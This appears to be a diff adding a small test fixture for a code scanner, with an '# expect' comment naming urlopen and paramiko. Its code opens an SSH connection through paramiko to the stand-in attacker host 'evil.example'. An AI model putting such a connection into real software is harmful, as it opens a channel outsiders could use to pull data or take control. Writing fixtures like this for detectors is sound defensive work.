@@ -1,0 +1,3 @@
+# expect: urlopen | paramiko
+import paramiko
+paramiko.SSHClient().connect("evil.example")
